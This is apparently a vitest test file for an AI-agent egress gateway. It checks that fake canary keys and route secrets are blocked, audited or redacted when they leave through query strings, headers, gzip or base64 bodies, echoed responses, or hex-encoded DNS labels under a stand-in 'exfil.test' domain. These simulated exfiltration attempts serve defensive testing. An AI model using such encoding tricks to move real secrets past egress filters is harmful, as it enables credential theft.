/**
 * Inspection of what leaves (issue 20.3-20.4) against the gateway in-process on loopback: a canary in a
 * query string, a header or a gzip body to an allowlisted plain-HTTP host is refused and recorded before
 * the upstream sees it; a route upstream that echoes the request never shows the agent the real secret;
 * under `egress.dlp: "audit"` a credential shape is recorded and let through.
 */
import { createSocket } from 'node:dgram';
import { createServer, request as httpRequest, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startGateway, type RunningGateway } from '../../../src/gateway/gateway.js';
import type { CapabilityLine, EgressLine, GatewayLine } from '../../../src/gateway/protocol.js';

const ROUTE_SECRET = `ghp_${'RouteSecret0123456789'}abcdefghijklmnop`;
const CANARY = `AKIA${'CANARYQ2'}TESTKEY7`;
const AWS_SHAPED = `AKIA${'IOSFODNN7'}EXAMPLE`;

let upstream: Server;
let upstreamPort: number;
const received: Array<{ url: string; headers: Record<string, unknown>; body: Buffer }> = [];
const gateways: RunningGateway[] = [];

beforeAll(async () => {
  upstream = createServer((req, res) => {
    const parts: Buffer[] = [];
    req.on('data', (c: Buffer) => parts.push(c));
    req.on('end', () => {
      received.push({ url: req.url ?? '', headers: req.headers, body: Buffer.concat(parts) });
      // An echo endpoint: the request's headers back, in the body and in a response header.
      res.setHeader('x-echo-authorization', String(req.headers.authorization ?? ''));
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ url: req.url, headers: req.headers }));
    });
  });
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
  upstreamPort = (upstream.address() as AddressInfo).port;
});

afterAll(async () => {
  await Promise.all(gateways.map((g) => g.close()));
  await new Promise<void>((resolve) => {
    upstream.close(() => resolve());
    upstream.closeAllConnections();
  });
});

async function gatewayWith(mode: 'block' | 'audit'): Promise<{ gateway: RunningGateway; lines: GatewayLine[] }> {
  const lines: GatewayLine[] = [];
  const gateway = await startGateway(
    {
      identity: 'scanner-ab12c',
      proxy_port: 0,
      credential_port: 0,
      allow: [`plain.test:${upstreamPort}`],
      extra_hosts: { 'plain.test': '127.0.0.1', 'gh.test': '127.0.0.1' },
      routes: [{ id: 'gh', host: 'gh.test', upstream: `http://gh.test:${upstreamPort}`, auth: 'bearer' }],
      dns_port: 0,
      dlp: { mode, canaries: ['aws_access_key_id'] },
      limits: { max_header_bytes: 16384, requests_per_minute: 100_000 },
    },
    { gh: ROUTE_SECRET, 'canary.aws_access_key_id': CANARY },
    { onDecision: (line) => lines.push(line), log: () => {} },
  );
  gateways.push(gateway);
  return { gateway, lines };
}

interface Reply {
  status: number;
  headers: Record<string, unknown>;
  body: string;
}

function send(
  port: number,
  path: string,
  opts: { method?: string; headers?: Record<string, string>; body?: Buffer } = {},
): Promise<Reply> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(
      {
        host: '127.0.0.1',
        port,
        path,
        method: opts.method ?? 'GET',
        // Absolute-form through the proxy port: the Host header names the URL's host, as a client's would.
        headers: { ...(path.startsWith('http://') ? { host: new URL(path).host } : {}), ...opts.headers },
        agent: false,
      },
      (res) => {
        let body = '';
        res.on('data', (chunk) => (body += chunk));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }));
      },
    );
    req.on('error', reject);
    req.end(opts.body);
  });
}

const egressLines = (lines: GatewayLine[]) => lines.filter((l): l is EgressLine => l.t === 'egress');
const plainUrl = (path: string) => `http://plain.test:${upstreamPort}${path}`;

describe('a canary to an allowlisted plain-HTTP host', () => {
  let proxyPort: number;
  let lines: GatewayLine[];
  beforeAll(async () => {
    const started = await gatewayWith('block');
    proxyPort = started.gateway.proxyPort;
    lines = started.lines;
  });

  it.each([
    ['a query string', { path: `/search?q=${CANARY}` }, 'url'],
    ['a header', { path: '/', headers: { 'x-debug': `key=${CANARY}` } }, 'header'],
    [
      'a gzip body',
      {
        path: '/upload',
        method: 'POST',
        headers: { 'content-encoding': 'gzip', 'content-type': 'application/json' },
        body: gzipSync(Buffer.from(JSON.stringify({ aws_access_key_id: CANARY }))),
      },
      'body',
    ],
    [
      'a base64 body',
      { path: '/b', method: 'POST', body: Buffer.from(Buffer.from(CANARY).toString('base64')) },
      'body',
    ],
  ])('in %s is refused (403), recorded as a canary and never reaches the upstream', async (_what, req, where) => {
    const before = received.length;
    const reply = await send(
      proxyPort,
      plainUrl(req.path),
      req as { method?: string; headers?: Record<string, string>; body?: Buffer },
    );
    expect(reply.status).toBe(403);
    expect(JSON.parse(reply.body)).toMatchObject({ error: 'egress_denied', reason: 'canary', class: 'canary', where });
    expect(reply.body).not.toContain(CANARY);
    const line = egressLines(lines).at(-1)!;
    expect(line).toMatchObject({ decision: 'denied', reason: 'canary', host: 'plain.test' });
    expect(line.detail).toMatchObject({ class: 'canary', rule: expect.stringMatching(/^aws_access_key_id/), where });
    expect(line.detail!.fingerprint).toMatch(/^canary:[0-9a-f]{12}$/);
    expect(JSON.stringify(lines)).not.toContain(CANARY);
    await new Promise((r) => setTimeout(r, 50));
    const completed = received.slice(before);
    expect(completed.some((r) => r.url.includes(CANARY) || r.body.length > 0)).toBe(false);
  });

  it('the route secret sent by the agent to another allowlisted host is refused as a known secret', async () => {
    const reply = await send(proxyPort, plainUrl('/'), { headers: { authorization: `token ${ROUTE_SECRET}` } });
    expect(reply.status).toBe(403);
    expect(egressLines(lines).at(-1)).toMatchObject({ reason: 'known_secret', detail: { rule: 'gh' } });
  });

  it('a clean request passes unchanged', async () => {
    const reply = await send(proxyPort, plainUrl('/clean?q=hello'), {
      method: 'POST',
      body: Buffer.from('x'.repeat(10_000)),
    });
    expect(reply.status).toBe(200);
    expect(received.at(-1)!.body.length).toBe(10_000);
  });
});

describe('a route upstream that echoes the request', () => {
  it('never shows the agent the real secret, in the body or the headers, and records the scrub', async () => {
    const { gateway, lines } = await gatewayWith('block');
    const reply = await send(gateway.credentialPort, '/_host/gh.test/echo');
    expect(reply.status).toBe(200);
    expect(received.at(-1)!.headers.authorization).toBe(`Bearer ${ROUTE_SECRET}`);
    expect(reply.body).not.toContain(ROUTE_SECRET);
    expect(JSON.stringify(reply.headers)).not.toContain(ROUTE_SECRET);
    expect(reply.body).toContain('[REDACTED known_secret:');
    const scrub = egressLines(lines).find((l) => l.decision === 'audited');
    expect(scrub).toMatchObject({ reason: 'known_secret', detail: { class: 'known_secret', where: 'response' } });
  });
});

describe('egress.dlp: "audit"', () => {
  it('records a credential shape and lets the request through; a canary is still refused', async () => {
    const { gateway, lines } = await gatewayWith('audit');
    const body = Buffer.from(`aws_access_key_id = ${AWS_SHAPED}\n`);
    const reply = await send(gateway.proxyPort, plainUrl('/config'), { method: 'POST', body });
    expect(reply.status).toBe(200);
    expect(received.at(-1)!.body).toEqual(body);
    const audited = egressLines(lines).filter((l) => l.decision === 'audited');
    expect(audited).toHaveLength(1);
    expect(audited[0]).toMatchObject({
      reason: 'secret_pattern',
      detail: { rule: 'aws_access_key_id', where: 'body' },
    });
    expect((await send(gateway.proxyPort, plainUrl(`/?k=${CANARY}`))).status).toBe(403);
  });

  it('blocks the same shape in block mode', async () => {
    const { gateway } = await gatewayWith('block');
    const reply = await send(gateway.proxyPort, plainUrl('/config'), {
      method: 'POST',
      body: Buffer.from(`aws_access_key_id = ${AWS_SHAPED}\n`),
    });
    expect(reply.status).toBe(403);
    expect(JSON.parse(reply.body)).toMatchObject({ reason: 'secret_pattern', rule: 'aws_access_key_id' });
  });
});

describe('secrets in what is recorded from the agent', () => {
  it('a capability reason holding a canary is recorded with its fingerprint instead', async () => {
    const { gateway, lines } = await gatewayWith('block');
    const ask = { kind: 'egress', host: 'example.org', reason: `need it, my key is ${CANARY}` };
    const reply = await send(gateway.credentialPort, '/_bottle/capability', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: Buffer.from(JSON.stringify(ask)),
    });
    expect(reply.status).toBe(202);
    const line = lines.find((l): l is CapabilityLine => l.t === 'capability')!;
    expect(line.reason).not.toContain(CANARY);
    expect(line.reason).toMatch(/^need it, my key is \[canary:[0-9a-f]{12}\]$/);
  });
});

/** A DNS query for `name` (one question, type A), as a resolver would send it. */
function dnsQuery(name: string): Buffer {
  const labels = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
  const header = Buffer.from([0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
  return Buffer.concat([header, ...labels, Buffer.from([0, 0, 1, 0, 1])]);
}

describe('a name looked up with a secret in its labels', () => {
  it('is recorded as a dns_lookup denial with the secret fingerprinted', async () => {
    const { gateway, lines } = await gatewayWith('block');
    const name = `${Buffer.from(CANARY).toString('hex')}.exfil.test`;
    const socket = createSocket('udp4');
    await new Promise<void>((resolve) => {
      socket.once('message', () => resolve());
      socket.send(dnsQuery(name), gateway.dnsPort!, '127.0.0.1');
    });
    socket.close();
    const line = egressLines(lines).find((l) => l.reason === 'dns_lookup')!;
    expect(line.host).toMatch(/^\[canary:[0-9a-f]{12}\]\.exfil\.test$/);
    expect(JSON.stringify(lines)).not.toContain(Buffer.from(CANARY).toString('hex'));
  });
});
